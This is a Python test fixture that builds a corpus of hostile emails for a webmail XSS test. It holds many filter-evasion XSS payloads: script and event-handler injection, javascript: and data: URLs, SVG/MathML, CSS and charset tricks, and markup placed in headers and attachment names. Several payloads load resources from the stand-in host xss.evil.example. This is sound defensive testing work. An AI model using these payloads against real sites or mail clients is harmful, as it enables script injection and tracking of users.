"""A corpus of hostile mails for the webmail's XSS test (``test_browser_xss_corpus``).

Each entry is a whole RFC 5322 message, built here as bytes so that encodings,
charsets and malformed markup reach the server exactly as an attacker would send
them. Every payload tries to leave a trace the test can see from the page:
``window.__xss`` set, an ``alert`` dialog, a console line containing ``__xss``,
or a request to ``xss.evil.example`` (which the test's interceptor records).
The entries follow the usual lists (OWASP's XSS filter evasion cheat sheet,
html5sec.org, the mXSS papers) by kind, written here from scratch.
"""

from __future__ import annotations

import base64
import quopri
from dataclasses import dataclass

EVIL = "http://xss.evil.example"
#: What a payload runs: every trace at once.
JS = "window.__xss=1;parent.__xss=1;alert(1);console.log('__xss')"
JS_URL = "javascript:" + JS
B64_PAGE = base64.b64encode(f"<script>{JS}</script>".encode()).decode()
SVG_B64 = base64.b64encode(
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script></svg>'.encode()
).decode()


MAX_LINE_BYTES = 900


@dataclass(frozen=True)
class HostileMail:
    """One corpus entry; ``name`` is also its ``X-Corpus`` header."""

    name: str
    raw: bytes
    has_html: bool = True


def _headers(name: str, content_type: str, encoding: str, subject: str = "") -> str:
    return (
        "From: Rectorat <rectorat@evil.example>\r\n"
        "To: someone@example.org\r\n"
        f"Subject: {subject or 'Corpus ' + name}\r\n"
        "Date: Mon, 7 Feb 2022 09:30:00 +0100\r\n"
        f"X-Corpus: {name}\r\n"
        "MIME-Version: 1.0\r\n"
        f"Content-Type: {content_type}\r\n"
        f"Content-Transfer-Encoding: {encoding}\r\n"
        "\r\n"
    )


def html_mail(
    name: str,
    body: str | bytes,
    *,
    charset: str = "utf-8",
    encoding: str = "8bit",
    subject: str = "",
) -> HostileMail:
    """A single text/html part, its body sent as given (bytes) or UTF-8."""
    data = body.encode() if isinstance(body, str) else body
    if encoding == "8bit" and max(len(line) for line in data.split(b"\n")) > MAX_LINE_BYTES:
        # SMTP refuses longer lines (RFC 5321 §4.5.3.1.6): soft breaks keep the bytes.
        encoding = "quoted-printable"
    if encoding == "base64":
        data = base64.encodebytes(data).replace(b"\n", b"\r\n")
    elif encoding == "quoted-printable":
        data = quopri.encodestring(data).replace(b"\n", b"\r\n")
    head = _headers(name, f"text/html; charset={charset}", encoding, subject)
    return HostileMail(name, head.encode() + data + b"\r\n")


HTML_BODIES: dict[str, str] = {
    "script-tag": f"<p>Bonjour</p><script>{JS}</script>",
    "script-src": f'<script src="{EVIL}/x.js"></script><p>Bonjour</p>',
    "script-mixed-case": f"<ScRiPt>{JS}</sCrIpT><p>Bonjour</p>",
    "script-split": f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "script-in-attribute-breakout": f'<p title="x"><script>{JS}</script>">t</p>',
    "img-onerror": f'<img src="x" onerror="{JS}"><img/src=x/onerror={JS.replace(" ", "")}>',
    "body-onload": f'<body onload="{JS}" onpageshow="{JS}"><p>Bonjour</p></body>',
    "event-handlers": (
        f'<div onclick="{JS}" onmouseover="{JS}" onmouseenter="{JS}" onfocus="{JS}" '
        f'tabindex="1" onanimationstart="{JS}" onpointerenter="{JS}" onwheel="{JS}">a</div>'
        f'<input autofocus onfocus="{JS}"><details open ontoggle="{JS}"><summary>s</summary>'
        f'</details><video src="x" onerror="{JS}"></video><audio src="x" onerror="{JS}">'
        f'</audio><marquee onstart="{JS}">m</marquee><select autofocus onfocus="{JS}"></select>'
        f'<textarea autofocus onfocus="{JS}"></textarea><keygen autofocus onfocus="{JS}">'
    ),
    "handler-odd-separators": (
        f"<img src=x onerror\x0b={JS}><img src=x onerror\x0c={JS}>"
        f'<svg/onload="{JS}"><img src=x """ onerror="{JS}">'
    ),
    "a-javascript": f'<a href="{JS_URL}">clic</a><a href="  JaVaScRiPt:{JS}">clic</a>',
    "a-javascript-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
        'alert(1)">dec</a><a href="&#x6A;&#x61;&#x76;&#x61;script&colon;alert(1)">hex</a>'
        '<a href="&#0000106&#0000097vascript:alert(1)">padded</a>'
    ),
    "a-javascript-whitespace": (
        '<a href="jav&#x09;ascript:alert(1)">tab</a><a href="jav&#x0A;ascript:alert(1)">lf</a>'
        '<a href="java\nscript:alert(1)">raw</a><a href=" &#14; javascript:alert(1)">c</a>'
    ),
    "a-vbscript-livescript": '<a href="vbscript:msgbox(1)">vb</a><a href="livescript:x">l</a>',
    "a-data-html": f'<a href="data:text/html;base64,{B64_PAGE}">d</a>'
    f'<a href="data:text/html,<script>{JS}</script>">d2</a>',
    "img-src-javascript": f'<img src="{JS_URL}"><img dynsrc="{JS_URL}"><img lowsrc="{JS_URL}">',
    "img-src-svg-data": f'<img src="data:image/svg+xml;base64,{SVG_B64}">',
    "form-action": f'<form action="{JS_URL}"><input type="submit" value="ok"></form>',
    "button-formaction": (
        f'<form><button formaction="{JS_URL}">b</button></form><button form="f" '
        f'formaction="{JS_URL}">b2</button><input type="image" src="{JS_URL}">'
        f'<isindex action="{JS_URL}" type="image">'
    ),
    "iframe-src": f'<iframe src="{JS_URL}"></iframe><iframe src="{EVIL}/frame"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="&lt;script&gt;{JS}&lt;/script&gt;"></iframe>',
    "frameset": f'<frameset><frame src="{JS_URL}"></frameset>',
    "object-embed-applet": (
        f'<object data="data:text/html;base64,{B64_PAGE}"></object>'
        f'<object data="{EVIL}/x.swf" type="application/x-shockwave-flash"></object>'
        f'<embed src="{JS_URL}"><embed src="data:image/svg+xml;base64,{SVG_B64}">'
        f'<applet code="x" codebase="{EVIL}/"></applet>'
    ),
    "svg-script": f"<svg><script>{JS}</script></svg><svg><script href='{EVIL}/x.js'/></svg>",
    "svg-onload": f'<svg onload="{JS}"><circle r="5"/></svg>',
    "svg-animate": (
        f'<svg><a><animate attributeName="href" values="{JS_URL}"/>'
        '<text x="20" y="20">clic</text></a></svg>'
    ),
    "svg-set": (
        f'<svg><set attributeName="onmouseover" to="{JS}"/>'
        f'<animate onbegin="{JS}" attributeName="x" dur="1s"/></svg>'
    ),
    "svg-use-xlink": (
        f'<svg><use xlink:href="data:image/svg+xml;base64,{SVG_B64}#x"/>'
        f'<use href="{EVIL}/sprite.svg#a"/><image xlink:href="{EVIL}/i.png"/></svg>'
    ),
    "svg-foreignobject": (
        f'<svg><foreignObject><iframe srcdoc="<script>{JS}</script>"></iframe>'
        "</foreignObject></svg>"
    ),
    "mathml": (
        f'<math><maction actiontype="statusline" xlink:href="{JS_URL}">clic</maction></math>'
        f'<math><mi xlink:href="{JS_URL}">x</mi></math>'
        f"<math><mtext><table><mglyph><style><img src=x onerror={JS}></style></mglyph>"
        "</table></mtext></math>"
    ),
    "css-expression": f'<div style="width: expression({JS}); color: red">e</div>'
    f'<div style="w\\idth: expr/**/ession(alert(1))">e2</div>',
    "css-behavior-binding": (
        f'<div style="behavior: url({EVIL}/x.htc); -moz-binding: url({EVIL}/x.xml#x)">b</div>'
    ),
    "css-import-url-javascript": (
        f"<style>@import '{EVIL}/x.css'; body {{ background: url(javascript:alert(1)) }}"
        f"</style><div style=\"background: url('{JS_URL}')\">u</div>"
        f'<div style="background-image: url({EVIL}/track.png)">t</div>'
        f'<div style="list-style-image: url({EVIL}/l.png); content: url({EVIL}/c.png)">l</div>'
    ),
    "base-href": f'<base href="{EVIL}/"><a href="rel">rel</a><img src="y.png">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={JS_URL}">'
    f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{B64_PAGE}">'
    f'<meta http-equiv="set-cookie" content="x=1">',
    "link-import-stylesheet": (
        f'<link rel="import" href="{EVIL}/x.html"><link rel="stylesheet" href="{EVIL}/x.css">'
        f'<link rel="prefetch" href="{EVIL}/p">'
    ),
    "unclosed-tags": f'<p>texte<img src=x onerror="{JS}"<a href="{JS_URL}"<script>{JS}',
    "comment-tricks": (
        f'<!--<img src="--><img src=x onerror="{JS}">-->'
        f"<!-- --!><script>{JS}</script> --><!--[if IE]><script>{JS}</script><![endif]-->"
        f'<comment><img src="</comment><img src=x onerror={JS}//">'
    ),
    "cdata-tricks": (
        f"<![CDATA[<]]><script>{JS}</script>"
        f'<svg><![CDATA[><image xlink:href="]]><img src=x onerror={JS}//">]]></svg>'
    ),
    "noscript-mxss": (
        f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>'
        f'<xmp><img src=x onerror="{JS}"></xmp><title><script>{JS}</script></title>'
        f"<textarea><script>{JS}</script></textarea><plaintext><script>{JS}</script>"
    ),
    "template-shadow-dom": (
        f"<template><script>{JS}</script></template>"
        f'<div><template shadowrootmode="open"><img src=x onerror="{JS}"></template></div>'
    ),
    "namespaced-script": (
        f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{JS}</x:script>'
        f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{JS}</script></html>'
    ),
    "null-bytes": (
        f"<scr\x00ipt>{JS}</scr\x00ipt><img src=x o\x00nerror={JS}>"
        f'<a href="java\x00script:{JS}">n</a><img src="java\0script:{JS}">'
    ),
    "percent-encoded": (
        f'<a href="javascript%3A{JS}">p</a><a href="%6A%61vascript:alert(1)">p2</a>'
        '<a href="javascript:%61%6C%65%72%74%28%31%29">p3</a>'
    ),
    "remote-tracking-attributes": (
        f'<img srcset="{EVIL}/a.png 1x"><a ping="{EVIL}/ping" href="https://ok.example/">p</a>'
        f'<table background="{EVIL}/b.png"><tr><td background="{EVIL}/c.png">t</td></tr>'
        f'</table><body background="{EVIL}/d.png"><picture><source srcset="{EVIL}/e.png">'
        f'</picture><video poster="{EVIL}/f.png"></video>'
    ),
    "target-and-opener": (
        f'<a href="https://ok.example/" target="_top">top</a><a href="{JS_URL}" '
        'target="_parent">parent</a><form target="_top"><input></form>'
    ),
}


def _multipart_alternative() -> HostileMail:
    boundary = "b1"
    raw = (
        _headers("multipart-alternative", f'multipart/alternative; boundary="{boundary}"', "7bit")
        + f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nBonjour.\r\n"
        + f"--{boundary}\r\nContent-Type: text/html; charset=utf-8\r\n"
        + "Content-Transfer-Encoding: quoted-printable\r\n\r\n"
        + quopri.encodestring(
            f'<p>Bonjour</p><img src=3D"x" onerror=3D"{JS}"><script>{JS}</script>'.encode()
        ).decode()
        + f"\r\n--{boundary}--\r\n"
    )
    return HostileMail("multipart-alternative", raw.encode())


def _multipart_related() -> HostileMail:
    boundary = "r1"
    inner = base64.b64encode(f"<script>{JS}</script>".encode()).decode()
    raw = (
        _headers("multipart-related-cid", f'multipart/related; boundary="{boundary}"', "7bit")
        + f"--{boundary}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        + '<iframe src="cid:page@x"></iframe><img src="cid:page@x"><a href="cid:page@x">c</a>\r\n'
        + f"--{boundary}\r\nContent-Type: text/html\r\nContent-ID: <page@x>\r\n"
        + f"Content-Transfer-Encoding: base64\r\n\r\n{inner}\r\n"
        + f"--{boundary}\r\nContent-Type: image/svg+xml\r\nContent-ID: <svg@x>\r\n"
        + "Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(base64.b64decode(SVG_B64)).decode().replace("\n", "\r\n")
        + f"--{boundary}--\r\n"
    )
    return HostileMail("multipart-related-cid", raw.encode())


def _hostile_headers() -> HostileMail:
    """Markup in the subject, the sender's name and an attachment's name (the portal page)."""
    encoded = base64.b64encode(f"<svg onload={JS}>".encode()).decode()
    boundary = "h1"
    raw = (
        f'From: "<img src=x onerror={JS}>" <x@evil.example>\r\n'
        f"To: =?utf-8?b?{encoded}?= <someone@example.org>\r\n"
        f"Subject: <script>{JS}</script> =?utf-8?b?{encoded}?=\r\n"
        "Date: Mon, 7 Feb 2022 09:30:00 +0100\r\n"
        "X-Corpus: hostile-headers\r\nMIME-Version: 1.0\r\n"
        f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'
        f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        f"<script>{JS}</script>\r\n"
        f'--{boundary}\r\nContent-Type: text/html; name="<img src=x onerror={JS}>.html"\r\n'
        f'Content-Disposition: attachment; filename="<svg onload={JS}>.html"\r\n\r\n'
        f"<script>{JS}</script>\r\n--{boundary}--\r\n"
    )
    return HostileMail("hostile-headers", raw.encode(), has_html=False)


def _plain_text() -> HostileMail:
    head = _headers("plain-text-markup", "text/plain; charset=utf-8", "8bit")
    body = f'<script>{JS}</script><img src=x onerror="{JS}"></pre><script>{JS}</script>\r\n'
    return HostileMail("plain-text-markup", (head + body).encode(), has_html=False)


def corpus() -> list[HostileMail]:
    """Every hostile mail, each named uniquely."""
    mails = [html_mail(name, body) for name, body in HTML_BODIES.items()]
    script = f'<p>x</p><script>{JS}</script><img src=x onerror="{JS}">'
    mails += [
        html_mail(
            "utf7-charset",
            b"+ADw-script+AD4-" + JS.encode() + b"+ADw-/script+AD4-",
            charset="utf-7",
        ),
        html_mail(
            "utf16-charset",
            ("\ufeff" + script).encode("utf-16-le"),
            charset="utf-16",
            encoding="base64",
        ),
        html_mail("unknown-charset", script, charset="x-evil-<script>"),
        html_mail(
            "iso2022-escapes",
            b'<a href="\x1b$@">x</a><img src=x o\x1b(Bnerror="' + JS.encode() + b'">',
            charset="iso-2022-jp",
        ),
        html_mail(
            "quoted-printable", f"<scr\nipt>{JS}</script>{script}", encoding="quoted-printable"
        ),
        html_mail("base64-body", script, encoding="base64"),
        _multipart_alternative(),
        _multipart_related(),
        _hostile_headers(),
        _plain_text(),
    ]
    assert len({m.name for m in mails}) == len(mails)
    return mails
